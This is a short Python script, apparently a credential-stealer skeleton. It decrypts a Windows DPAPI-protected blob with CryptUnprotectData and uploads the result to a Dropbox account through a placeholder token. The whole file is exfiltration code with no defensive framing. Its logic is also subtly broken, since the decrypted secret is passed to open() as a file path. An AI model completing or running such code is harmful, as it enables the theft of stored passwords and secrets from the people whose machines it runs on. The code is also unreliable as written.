import dropbox
from win32crypt import CryptUnprotectData

def grab(blob):
    return CryptUnprotectData(blob, None, None, None, 0)[1]

def upload(path):
    dbx = dropbox.Dropbox('placeholder')
    dbx.files_upload(open(path, 'rb').read(), '/x')

upload(grab(b'x'))
